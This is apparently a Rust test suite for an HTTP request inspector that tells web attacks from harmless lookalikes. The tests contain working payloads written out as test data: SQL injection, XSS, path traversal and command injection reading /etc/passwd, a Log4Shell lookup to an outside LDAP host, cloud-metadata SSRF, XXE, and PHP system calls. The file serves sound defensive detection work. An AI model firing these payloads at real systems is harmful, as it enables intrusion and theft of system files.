//! What inspection says about requests, attack and lookalike side by side.

use std::fmt::Write as _;

use expect_test::{Expect, expect};
use inspect::{
    AccessLog, CLASSES, Class, REQUEST_CLASSES, Request, Verdict, inspect, inspect_access_log,
};

#[test]
fn union_behind_a_number() {
    check(
        "/item?id=1%20union%20select%201,version()--",
        expect![[r"
        attack 0.95
        sql_injection 0.95 in query id: 1 union select 1,version()-- [percent]"]],
    );
}

#[test]
fn tautology_encoded_twice() {
    check(
        "/item?id=1%2527%2520or%25201%253D1--",
        expect![[r"
            attack 0.99
            sql_injection 0.99 in query id: \' or 1=1-- [percent percent]"]],
    );
}

#[test]
fn versioned_comment_for_spaces() {
    check(
        "/item?id=1/*!50000union*//**/select/**/null,null",
        expect![[r"
        attack 0.95
        sql_injection 0.95 in query id: 1/*!50000union*//**/select/**/null,null []"]],
    );
}

#[test]
fn irish_name() {
    check("/people?name=O%27Brien+and+sons", expect!["clean 0.00"]);
}

#[test]
fn union_as_an_english_word() {
    check("/search?q=union+and+select+committee+from+1995", expect!["clean 0.00"]);
}

#[test]
fn script_tag() {
    check(
        "/search?q=%3CScRiPt%3Ealert(1)%3C/script%3E",
        expect![[r"
        attack 0.90
        cross_site_scripting 0.90 in query q: <ScRiPt>alert(1)</script> [percent]"]],
    );
}

#[test]
fn handler_after_a_closed_attribute() {
    check(
        "/search?q=%22%20onfocus=alert(1)%20x=%22",
        expect![[r#"
        attack 0.85
        cross_site_scripting 0.85 in query q: onfocus=alert(1) x=\" [percent]"#]],
    );
}

#[test]
fn script_scheme_in_entities() {
    check(
        "/?u=%3Ca%20href=%22jav%26%23x61;script:alert(1)%22%3E",
        expect![[r#"
        attack 0.90
        cross_site_scripting 0.90 in query u: <a href=\"javascript:alert(1)\"> [percent entity]"#]],
    );
}

#[test]
fn heart_and_comparison() {
    check("/comment?text=i+%3C3+you,+a+%3C+b+%26%26+c+%3E+d", expect!["clean 0.00"]);
}

#[test]
fn climb_out_of_the_root() {
    check(
        "/static/..%c0%af..%c0%af..%c0%afetc/passwd",
        expect![[r"
        attack 0.95
        path_traversal 0.95 in path: ../../../etc/passwd [percent utf8]"]],
    );
}

#[test]
fn neighbour_directory() {
    check(
        "/docs/guide/../images/logo.png",
        expect![[r"
        clean 0.30
        path_traversal 0.30 in path: ../images/logo.png []"]],
    );
}

#[test]
fn command_behind_a_separator() {
    check(
        "/ping?host=127.0.0.1%3Bcat%20/etc/passwd",
        expect![[r"
        attack 0.75
        command_injection 0.75 in query host: ;cat /etc/passwd [percent]
        path_traversal 0.30 in query host: etc/passwd [percent]"]],
    );
}

#[test]
fn pipe_in_a_sentence() {
    check("/search?q=cat+and+dog+%7C+bird", expect!["clean 0.00"]);
}

#[test]
fn lookup_with_nested_lookups() {
    check(
        "/?x=$%7B$%7Blower:j%7D$%7B::-n%7Ddi:ldap://203.0.113.9/a%7D",
        expect![[r"
        attack 0.98
        log4shell 0.98 in query x: ${${lower:j}${::-n}di:ldap://203.0.113.9/a} [percent]"]],
    );
}

#[test]
fn price_in_brackets() {
    check("/?x=$(100)&y=$%7Bname%7D", expect!["clean 0.00"]);
}

#[test]
fn template_that_multiplies() {
    check(
        "/hello?name=%7B%7B7*7%7D%7D",
        expect![[r"
        attack 0.80
        template_injection 0.80 in query name: {{7*7}} [percent]"]],
    );
}

#[test]
fn template_that_names_a_field() {
    check("/hello?name=%7B%7Bfirst_name%7D%7D", expect!["clean 0.00"]);
}

#[test]
fn operator_as_a_parameter_name() {
    check(
        "/login?password[$ne]=x",
        expect![[r"
        attack 0.80
        nosql_injection 0.80 in query name password[$ne]: $ne] []"]],
    );
}

#[test]
fn odata_filter() {
    check(
        "/odata/Orders?$filter=Price%20gt%2098%20and%20contains(Name,%27ab%27)",
        expect!["clean 0.00"],
    );
}

#[test]
fn header_behind_a_line_break() {
    check(
        "/go?to=%0d%0aSet-Cookie:%20a=b",
        expect![[r"
        attack 0.85
        header_injection 0.85 in query to: \r\nSet-Cookie: a=b [percent]"]],
    );
}

#[test]
fn cloud_metadata() {
    check(
        "/fetch?url=http://169.254.169.254/latest/meta-data/",
        expect![[r"
        attack 0.85
        server_side_request_forgery 0.85 in query url: 169.254.169.254/latest/meta-data/ []"]],
    );
}

#[test]
fn redirect_to_another_site() {
    check("/redirect?to=https%3A%2F%2Fshop.example.com%2Fp%3Fa%3Db", expect!["clean 0.00"]);
}

#[test]
fn filter_closed_and_opened() {
    check(
        "/people?uid=*)(uid=*))(|(uid=*",
        expect![[r"
        attack 0.75
        ldap_injection 0.75 in query uid: (uid=*))(|(uid=* []"]],
    );
}

#[test]
fn php_call() {
    check(
        "/?cmd=system(%27id%27);",
        expect![[r"
        attack 0.80
        code_injection 0.80 in query cmd: system(\'id\'); [percent]"]],
    );
}

#[test]
fn include_directive() {
    check(
        "/?page=%3C!--%23exec%20cmd=%22ls%22--%3E",
        expect![[r#"
        attack 0.90
        server_side_include 0.90 in query page: <!--#exec cmd=\"ls\"--> [percent]"#]],
    );
}

#[test]
fn java_object() {
    check(
        "/?state=rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA",
        expect![[r"
        attack 0.90
        deserialization 0.90 in query state: rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldA []"]],
    );
}

#[test]
fn payload_in_base64() {
    check(
        "/search?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        expect![[r"
        attack 0.90
        cross_site_scripting 0.90 in query q: <script>alert(1)</script> [base64]"]],
    );
}

#[test]
fn payload_cut_in_two_parameters() {
    check(
        "/item?id=1+union&id=select+1",
        expect![[r"
            attack 0.95
            sql_injection 0.95 in query id: 1 union,select 1 [percent]"]],
    );
}

#[test]
fn entity_in_a_body() {
    check_body(
        "application/xml",
        r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>"#,
        expect![[r#"
            attack 0.95
            xml_external_entity 0.95 in body: <!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a> []
            path_traversal 0.80 in body: etc/passwd\">]><a>&b;</a> []"#]],
    );
}

#[test]
fn statement_in_a_json_string() {
    check_body(
        "application/json",
        r#"{"id": 17, "note": "1\u0027 or 1=1 --"}"#,
        expect![[r"
            attack 0.95
            sql_injection 0.95 in body note: \' or 1=1 -- [escape]"]],
    );
}

#[test]
fn scanner_that_names_itself() {
    let verdict = inspect_access_log(&AccessLog {
        method: "GET",
        target: "/",
        referrer: Some("-"),
        user_agent: Some("sqlmap/1.8#stable (https://sqlmap.org)"),
    });
    expect![[r"
        attack 0.80
        scanner 0.80 in header user-agent: sqlmap/1.8#stable (https://sqlmap.org) []"]]
    .assert_eq(&print(&verdict));
}

#[test]
fn what_was_seen_of_a_body_is_judged() {
    let request = Request {
        method: "POST",
        target: "/",
        version: "HTTP/1.1",
        headers: &[],
        body: b"id=1' or 1=1--",
        whole: false,
    };
    let verdict = inspect(&request);
    assert!(verdict.attack);
    assert!(!verdict.not_observable.contains(&Class::MaliciousUpload));
    assert!(verdict.not_observable.contains(&Class::CrossSiteRequestForgery));
    let log = inspect(&Request { body: b"", ..request });
    assert!(!log.attack && log.not_observable.contains(&Class::MaliciousUpload));
    assert_eq!(inspect(&Request { whole: true, ..request }).not_observable, []);
}

#[test]
fn every_class_has_a_name_and_a_summary() {
    let texts = CLASSES.iter().map(|row| (row.id(), row.summary));
    let requests = REQUEST_CLASSES.iter().map(|row| (row.id(), row.summary));
    let rows: Vec<_> = texts.chain(requests).collect();
    for (at, (id, summary)) in rows.iter().enumerate() {
        assert!(!id.is_empty() && !summary.is_empty());
        assert!(rows.iter().skip(at + 1).all(|(_, other)| other != summary), "{summary}");
    }
}

#[track_caller]
fn check(target: &str, expect: Expect) {
    let verdict = inspect_access_log(&AccessLog { method: "GET", target, ..AccessLog::default() });
    expect.assert_eq(&print(&verdict));
}

#[track_caller]
fn check_body(media: &str, body: &str, expect: Expect) {
    let verdict = inspect(&Request {
        method: "POST",
        target: "/",
        version: "HTTP/1.1",
        headers: &[("content-type", media)],
        body: body.as_bytes(),
        whole: true,
    });
    expect.assert_eq(&print(&verdict));
}

/// One line for the verdict, one for each finding.
fn print(verdict: &Verdict) -> String {
    let mut text =
        format!("{} {:.2}", if verdict.attack { "attack" } else { "clean" }, verdict.score);
    for finding in &verdict.findings {
        let layers: Vec<&str> = finding.layers.iter().map(|layer| layer.as_str()).collect();
        let _ = write!(
            text,
            "\n{} {:.2} in {}: {} [{}]",
            finding.class,
            finding.score,
            finding.place,
            finding.evidence.escape_debug(),
            layers.join(" ")
        );
    }
    text
}
